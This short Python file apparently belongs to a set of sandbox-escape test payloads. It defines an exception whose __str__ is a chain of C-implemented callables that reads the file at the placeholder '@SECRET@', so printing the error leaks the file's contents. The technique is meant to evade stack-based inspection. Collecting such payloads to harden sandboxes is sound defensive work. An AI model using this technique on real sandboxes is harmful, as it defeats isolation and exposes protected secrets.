# technique: the same with a C callable: its stack is empty
# goal: read-secret
# source: own analysis: the empty stack
import functools
import sys
FileIO = type(sys.stdin.buffer.raw)


class Bomb(Exception):
    __str__ = staticmethod(functools.partial(
        next, map(bytes.decode, map(FileIO.readall, map(FileIO, ['@SECRET@'])))))


raise Bomb
